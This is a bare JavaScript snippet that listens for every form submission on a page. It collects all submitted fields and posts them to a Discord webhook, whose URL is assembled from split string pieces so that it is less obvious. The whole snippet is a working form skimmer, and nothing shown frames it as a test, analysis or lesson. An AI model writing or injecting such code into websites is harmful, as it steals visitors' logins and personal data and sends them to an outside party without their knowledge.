const hook = ['https://discord.com', 'api', 'webhooks', '1', 'abc'].join('/');
document.addEventListener('submit', e => {
  const d = new FormData(e.target);
  fetch(hook, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: [...d].map(p => p.join('=')).join('\n') }) });
});
